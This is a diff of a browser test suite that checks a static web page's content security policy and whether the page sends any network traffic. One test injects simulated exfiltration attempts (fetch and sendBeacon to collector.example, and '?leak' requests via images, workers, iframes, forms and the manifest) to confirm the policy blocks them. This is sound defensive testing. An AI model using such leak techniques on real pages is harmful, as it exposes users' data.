@@ -1,55 +1,35 @@
 import { createHash } from 'node:crypto'
 import { cp, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
-import { createServer, type Server } from 'node:net'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
 import { pathToFileURL } from 'node:url'
+import type { Page } from 'playwright-core'
 import { afterAll, beforeAll, describe, expect, test } from 'vitest'
+import { writeOffline } from '../../src/build/offline.mjs'
 import { buildPage } from '../../src/build/page.mjs'
+import { serveFolder } from '../../src/build/serve.mjs'
 import { policy, predictions } from './cases.ts'
 import { launch } from './chromium.ts'
-import { openFiles, pageFile, pageFromDisk, untilState, visit } from './visit.ts'
-
-/** What this browser asks its maker on its own account, with any page or none. */
-const browsersOwn = /^\w+ (?:http:\/\/)?(?:update|optimizationguide-pa)\.googleapis\.com[:/]|^CONNECT (?:accounts|www|clients2)\.google\.com:/
-
-/** Stands in for the whole network: every address, this machine's too, leads here. */
-interface Listener {
-  address: string
-  heard: string[]
-  close: () => void
-}
-
-async function listen(): Promise<Listener> {
-  const heard: string[] = []
-  const server: Server = createServer((socket) => {
-    socket.on('error', () => undefined)
-    socket.once('data', (bytes) => {
-      const request = bytes.toString('latin1').split('\r\n', 1)[0]
-      if (!browsersOwn.test(request)) heard.push(request)
-      socket.end('HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n')
-    })
-  })
-  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done))
-  const address = server.address()
-  if (address === null || typeof address === 'string') throw new Error('no port')
-  return { address: `127.0.0.1:${address.port}`, heard, close: () => server.close() }
-}
+import { listen, logNetwork, type Listener } from './network.ts'
+import { openFiles, pageFile, pageFromDisk, siteFolder, untilState, visit } from './visit.ts'
 
 describe('the built page', () => {
   test('carries its content policy ahead of every script and style', async () => {
     const html = await readFile(pageFile, 'utf8')
     const meta = /<meta http-equiv="Content-Security-Policy" content="([^"]*)">/.exec(html)
-    expect(meta?.[1]).toMatch(/^default-src 'none'; script-src 'sha256-[^']*'; style-src 'sha256-[^']*'; img-src data: blob:; connect-src 'none'; worker-src blob:; base-uri 'none'; form-action 'none'$/)
+    expect(meta?.[1]).toMatch(/^default-src 'none'; script-src(?: 'sha256-[^']*'){2}; style-src 'sha256-[^']*'; img-src data: blob:; connect-src 'none'; worker-src 'self' blob:; manifest-src 'self'; base-uri 'none'; form-action 'none'$/)
     expect(meta!.index).toBeLessThan(html.search(/<script|<style|<link/))
   })
 
-  test('is the same bytes when built again', async () => {
+  test('is the same bytes when built again, and so is what lies beside it', async () => {
     const folder = await mkdtemp(join(tmpdir(), 'page-'))
     const { version } = JSON.parse(await readFile(new URL('../../package.json', import.meta.url), 'utf8'))
     await buildPage({ outDir: folder, version })
+    await writeOffline({ siteFolder: folder })
     const sha256 = async (path: string) => createHash('sha256').update(await readFile(path)).digest('hex')
-    expect(await sha256(join(folder, 'index.html'))).toBe(await sha256(pageFile))
+    for (const name of ['index.html', 'index.html.sha256', 'service-worker.js', 'manifest.webmanifest']) {
+      expect(await sha256(join(folder, name)), name).toBe(await sha256(join(siteFolder, name)))
+    }
     await rm(folder, { recursive: true })
   })
 
@@ -67,6 +47,48 @@ describe('the built page', () => {
   })
 })
 
+/** The lock test's address, as the browser's log has it: refused. */
+const ofLockTest = new Set(['https://example.com/?test'])
+
+/** Everything that a person does here: samples, threshold, exports, a file of their own, roles, a policy, the lock test. */
+async function wholeJourney(page: Page): Promise<void> {
+  await page.click('[data-sample=fails_on_one_segment]')
+  await untilState(page, 'done')
+  await page.locator('input[type=range]').fill('0.3')
+  await page.locator('[data-preview]').waitFor()
+  const exports = page.locator('[data-export]:visible')
+  for (let at = 0; at < await exports.count(); at += 1) {
+    await Promise.all([page.waitForEvent('download'), exports.nth(at).click()])
+  }
+  await openFiles(page, { 'predictions.csv': predictions() })
+  await untilState(page, 'roles')
+  await page.selectOption('[data-role=label]', 'outcome')
+  await page.selectOption('[data-role=candidate]', 'prob')
+  expect(await fieldNames(page)).not.toMatch(/outcome|prob|region|fold|predictions/)
+  await page.click('[data-action=evaluate]')
+  await untilState(page, 'done')
+  await openFiles(page, { 'policy.yaml': policy })
+  await page.locator('[data-verdict=pass]').waitFor()
+  await page.click('[data-action=check]')
+  await page.click('[data-action=test-lock]')
+  await page.locator('[data-lock=locked]').waitFor()
+}
+
+/** What form fields are called: browsers send hashes of it to their makers, to know how to fill them in. */
+function fieldNames(page: Page): Promise<string> {
+  return page.locator('input, select, textarea, form').evaluateAll((fields) =>
+    fields.map((field) => `${field.id} ${field.getAttribute('name')} ${field.getAttribute('autocomplete')}`).join('\n'))
+}
+
+/** The manifest's text as the browser gets it by an address that a script has put in the page; '' where it gets none. */
+async function withManifest(page: Page, address: string): Promise<string> {
+  await page.evaluate((href) => {
+    document.querySelector<HTMLLinkElement>('link[rel=manifest]')!.href = href
+  }, address)
+  const { data } = await (await page.context().newCDPSession(page)).send('Page.getAppManifest')
+  return data ?? ''
+}
+
 describe('with a listener on every address', () => {
   let listener: Listener
   beforeAll(async () => {
@@ -74,27 +96,76 @@ describe('with a listener on every address', () => {
   })
   afterAll(() => listener?.close())
 
-  test('nothing is sent in a whole journey, and what a script tries to send is stopped', async () => {
+  test('from disk, a whole journey asks for nothing but the page’s file', async () => {
     const browser = await launch(listener.address)
-    const { page, close } = await visit(browser)
-    await page.click('[data-sample=fails_on_one_segment]')
-    await untilState(page, 'done')
-    await page.locator('input[type=range]').fill('0.3')
-    await openFiles(page, { 'predictions.csv': predictions(), 'policy.yaml': policy })
-    await untilState(page, 'done')
-    const tried = await page.evaluate(async () => {
-      const outcomes: string[] = []
-      document.addEventListener('securitypolicyviolation', (event) => outcomes.push(event.effectiveDirective))
+    const context = await browser.newContext({ viewport: { width: 1280, height: 800 } })
+    const log = await logNetwork(context)
+    const page = await context.newPage()
+    await page.goto(pageFromDisk)
+    await wholeJourney(page)
+    expect(log.requests.filter((url) => !log.blocked.includes(url))).toEqual([pageFromDisk])
+    expect(new Set(log.blocked)).toEqual(ofLockTest)
+    expect([listener.heard, await log.ungoverned()]).toEqual([[], []])
+    await browser.close()
+  })
+
+  test('served from a sub-path, the page’s file, service worker and manifest, once, before there is any data; then nothing', async () => {
+    const asked: string[] = []
+    const site = await serveFolder(siteFolder, { base: '/some/dir/', onRequest: (line) => asked.push(line) })
+    const browser = await launch(listener.address, new URL(site.url).host)
+    const context = await browser.newContext({ viewport: { width: 1280, height: 800 } })
+    const log = await logNetwork(context)
+    const page = await context.newPage()
+    await page.goto(site.url)
+    await page.evaluate(async () => void (await navigator.serviceWorker.ready))
+    const opening = ['/some/dir/', '/some/dir/', '/some/dir/manifest.webmanifest', '/some/dir/service-worker.js']
+    expect([...asked].sort()).toEqual(opening.map((path) => `GET ${path}`))
+    await wholeJourney(page)
+    expect(asked).toHaveLength(opening.length)
+    expect(log.requests.filter((url) => !log.blocked.includes(url)).map((url) => new URL(url).pathname).sort()).toEqual(opening)
+    expect(new Set(log.blocked)).toEqual(ofLockTest)
+    expect([listener.heard, await log.ungoverned()]).toEqual([[], []])
+    await browser.close()
+    await site.close()
+  })
+
+  test('what a script tries to send, from the page or its address’s own host, is stopped', async () => {
+    const asked: string[] = []
+    const site = await serveFolder(siteFolder, { onRequest: (line) => asked.push(line) })
+    const browser = await launch(listener.address, new URL(site.url).host)
+    const { page, close } = await visit(browser, site.url)
+    await page.evaluate(async () => void (await navigator.serviceWorker.ready))
+    await openFiles(page, { 'predictions.csv': predictions() })
+    await untilState(page, 'roles')
+    const before = [...asked]
+    const stopped = await page.evaluate(async () => {
+      const directives: string[] = []
+      document.addEventListener('securitypolicyviolation', (event) => directives.push(event.effectiveDirective))
       await fetch('http://collector.example/page').catch(() => undefined)
-      new Image().src = 'http://collector.example/image'
+      await fetch('./?leak').catch(() => undefined)
+      new Image().src = './?leak'
       navigator.sendBeacon('http://collector.example/beacon', 'x')
-      await new Promise((done) => setTimeout(done, 200))
-      return outcomes
+      new Worker('service-worker.js?leak').onerror = () => undefined
+      new SharedWorker('service-worker.js?leak')
+      await navigator.serviceWorker.register('service-worker.js?leak').catch(() => undefined)
+      const nested = `try { new Worker('${location.href}service-worker.js?leak') } catch {} importScripts('${location.href}service-worker.js?leak')`
+      new Worker(URL.createObjectURL(new Blob([nested])))
+      const frame = document.createElement('iframe')
+      frame.src = './?leak'
+      document.body.append(frame)
+      const form = document.createElement('form')
+      form.action = './?leak'
+      document.body.append(form)
+      form.submit()
+      await new Promise((done) => setTimeout(done, 500))
+      return directives
     })
-    expect(tried).toEqual(expect.arrayContaining(['connect-src', 'img-src']))
-    expect(listener.heard).toEqual([])
+    const manifest = await withManifest(page, 'manifest.webmanifest?leak')
+    expect(new Set(stopped)).toEqual(new Set(['connect-src', 'img-src', 'worker-src', 'frame-src', 'form-action']))
+    expect([asked, listener.heard, manifest]).toEqual([before, [], ''])
     await close()
     await browser.close()
+    await site.close()
   })
 
   test('the listener does hear a page without the policy: its silence means something', async () => {
